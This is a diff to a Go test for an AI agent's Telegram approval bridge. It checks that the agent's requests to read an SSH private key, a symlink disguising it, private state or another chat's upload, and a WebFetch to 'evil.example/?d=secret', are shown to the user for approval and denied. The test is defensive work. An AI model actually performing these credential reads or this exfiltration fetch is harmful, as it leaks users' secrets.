@@ -7,6 +7,7 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"testing/synctest"
 
 	"github.com/untether/untether/approvals"
 	"github.com/untether/untether/runner"
@@ -21,88 +22,90 @@ import (
 // WebFetch get buttons, the file ones saying "outside the project" with the
 // resolved path. Before the path rule, all of them were approved silently.
 func TestApprovalReadOutsideProjectAsked(t *testing.T) {
-	base, err := filepath.EvalSymlinks(t.TempDir())
-	if err != nil {
-		t.Fatal(err)
-	}
-	home, work, uploads := filepath.Join(base, "home"), filepath.Join(base, "work"), filepath.Join(base, "uploads")
-	t.Setenv("HOME", home)
-	key := filepath.Join(home, ".ssh", "id_ed25519")
-	state := filepath.Join(work, "untether.db")
-	theirs := filepath.Join(uploads, "999", "b.jpg")
-	for _, f := range []string{key, state, theirs, filepath.Join(work, "main.go")} {
-		if err := os.MkdirAll(filepath.Dir(f), 0o755); err != nil {
+	synctest.Test(t, func(t *testing.T) {
+		base, err := filepath.EvalSymlinks(t.TempDir())
+		if err != nil {
 			t.Fatal(err)
 		}
-		if err := os.WriteFile(f, []byte("x"), 0o600); err != nil {
+		home, work, uploads := filepath.Join(base, "home"), filepath.Join(base, "work"), filepath.Join(base, "uploads")
+		t.Setenv("HOME", home)
+		key := filepath.Join(home, ".ssh", "id_ed25519")
+		state := filepath.Join(work, "untether.db")
+		theirs := filepath.Join(uploads, "999", "b.jpg")
+		for _, f := range []string{key, state, theirs, filepath.Join(work, "main.go")} {
+			if err := os.MkdirAll(filepath.Dir(f), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.WriteFile(f, []byte("x"), 0o600); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := os.Symlink(key, filepath.Join(work, "innocent.txt")); err != nil {
 			t.Fatal(err)
 		}
-	}
-	if err := os.Symlink(key, filepath.Join(work, "innocent.txt")); err != nil {
-		t.Fatal(err)
-	}
 
-	var mu sync.Mutex
-	got := map[string]string{}
-	var mine string // the chat's own upload folder, known once the chat id is
-	h := newHarness(t, func(tr *runnertest.Turn) {
-		tr.Start("m")
-		asks := []runner.ApprovalRequest{
-			toolReq(t, "inside", "Read", map[string]any{"file_path": filepath.Join(work, "main.go")}),
-			toolReq(t, "relative", "Read", map[string]any{"file_path": "main.go"}),
-			toolReq(t, "upload", "Read", map[string]any{"file_path": filepath.Join(mine, "a.jpg")}),
-			toolReq(t, "key", "Read", map[string]any{"file_path": "~/.ssh/id_ed25519"}),
-			toolReq(t, "link", "Read", map[string]any{"file_path": filepath.Join(work, "innocent.txt")}),
-			toolReq(t, "state", "Read", map[string]any{"file_path": state}),
-			toolReq(t, "theirs", "Read", map[string]any{"file_path": theirs}),
-			toolReq(t, "fetch", "WebFetch", map[string]any{"url": "https://evil.example/?d=secret", "prompt": "p"}),
+		var mu sync.Mutex
+		got := map[string]string{}
+		var mine string // the chat's own upload folder, known once the chat id is
+		h := newHarness(t, func(tr *runnertest.Turn) {
+			tr.Start("m")
+			asks := []runner.ApprovalRequest{
+				toolReq(t, "inside", "Read", map[string]any{"file_path": filepath.Join(work, "main.go")}),
+				toolReq(t, "relative", "Read", map[string]any{"file_path": "main.go"}),
+				toolReq(t, "upload", "Read", map[string]any{"file_path": filepath.Join(mine, "a.jpg")}),
+				toolReq(t, "key", "Read", map[string]any{"file_path": "~/.ssh/id_ed25519"}),
+				toolReq(t, "link", "Read", map[string]any{"file_path": filepath.Join(work, "innocent.txt")}),
+				toolReq(t, "state", "Read", map[string]any{"file_path": state}),
+				toolReq(t, "theirs", "Read", map[string]any{"file_path": theirs}),
+				toolReq(t, "fetch", "WebFetch", map[string]any{"url": "https://evil.example/?d=secret", "prompt": "p"}),
+			}
+			for _, r := range asks {
+				d := tr.Ask(r)
+				mu.Lock()
+				got[r.RequestID] = decisionWord(d)
+				mu.Unlock()
+			}
+			tr.Complete("reads done")
+		}, func(c *telegram.Config) {
+			c.WorkDir, c.UploadDir = work, uploads
+			c.AllowList = approvals.DefaultAutoApprove()
+			c.PrivatePaths = []string{state}
+		})
+		mine = filepath.Join(uploads, strconv.FormatInt(h.dm.ID, 10))
+		h.say("look around")
+
+		for _, tc := range []struct{ id, text, path string }{
+			{"key", "id_ed25519", key},
+			{"link", "innocent.txt", key},
+			{"state", "untether.db", state},
+			{"theirs", "b.jpg", theirs},
+		} {
+			p := h.awaitPrompt(h.dm.ID, "Deny", tc.text)
+			if want := "Outside the project: " + tc.path; !strings.Contains(p.Text, want) {
+				t.Errorf("prompt for %s lacks %q:\n%s", tc.id, want, p.Text)
+			}
+			h.toast(h.press(h.user, h.dm, p, "Deny"))
 		}
-		for _, r := range asks {
-			d := tr.Ask(r)
-			mu.Lock()
-			got[r.RequestID] = decisionWord(d)
-			mu.Unlock()
+		fetch := h.awaitPrompt(h.dm.ID, "Approve", "evil.example")
+		if strings.Contains(fetch.Text, "Outside the project") {
+			t.Errorf("a WebFetch prompt talks of the project:\n%s", fetch.Text)
 		}
-		tr.Complete("reads done")
-	}, func(c *telegram.Config) {
-		c.WorkDir, c.UploadDir = work, uploads
-		c.AllowList = approvals.DefaultAutoApprove()
-		c.PrivatePaths = []string{state}
+		h.toast(h.press(h.user, h.dm, fetch, "Deny"))
+		h.awaitText(h.dm.ID, "reads done")
+
+		mu.Lock()
+		defer mu.Unlock()
+		want := map[string]string{"inside": "allowed", "relative": "allowed", "upload": "allowed",
+			"key": "denied", "link": "denied", "state": "denied", "theirs": "denied", "fetch": "denied"}
+		for id, w := range want {
+			if got[id] != w {
+				t.Errorf("%s: %s, want %s", id, got[id], w)
+			}
+		}
+		for _, m := range h.tg.Messages(h.dm.ID) {
+			if len(m.Keyboard) > 0 && (strings.Contains(m.Text, "main.go") || strings.Contains(m.Text, "a.jpg")) {
+				t.Errorf("a read inside the project was shown: %q", m.Text)
+			}
+		}
 	})
-	mine = filepath.Join(uploads, strconv.FormatInt(h.dm.ID, 10))
-	h.say("look around")
-
-	for _, tc := range []struct{ id, text, path string }{
-		{"key", "id_ed25519", key},
-		{"link", "innocent.txt", key},
-		{"state", "untether.db", state},
-		{"theirs", "b.jpg", theirs},
-	} {
-		p := h.awaitPrompt(h.dm.ID, "Deny", tc.text)
-		if want := "Outside the project: " + tc.path; !strings.Contains(p.Text, want) {
-			t.Errorf("prompt for %s lacks %q:\n%s", tc.id, want, p.Text)
-		}
-		h.toast(h.press(h.user, h.dm, p, "Deny"))
-	}
-	fetch := h.awaitPrompt(h.dm.ID, "Approve", "evil.example")
-	if strings.Contains(fetch.Text, "Outside the project") {
-		t.Errorf("a WebFetch prompt talks of the project:\n%s", fetch.Text)
-	}
-	h.toast(h.press(h.user, h.dm, fetch, "Deny"))
-	h.awaitText(h.dm.ID, "reads done")
-
-	mu.Lock()
-	defer mu.Unlock()
-	want := map[string]string{"inside": "allowed", "relative": "allowed", "upload": "allowed",
-		"key": "denied", "link": "denied", "state": "denied", "theirs": "denied", "fetch": "denied"}
-	for id, w := range want {
-		if got[id] != w {
-			t.Errorf("%s: %s, want %s", id, got[id], w)
-		}
-	}
-	for _, m := range h.tg.Messages(h.dm.ID) {
-		if len(m.Keyboard) > 0 && (strings.Contains(m.Text, "main.go") || strings.Contains(m.Text, "a.jpg")) {
-			t.Errorf("a read inside the project was shown: %q", m.Text)
-		}
-	}
 }
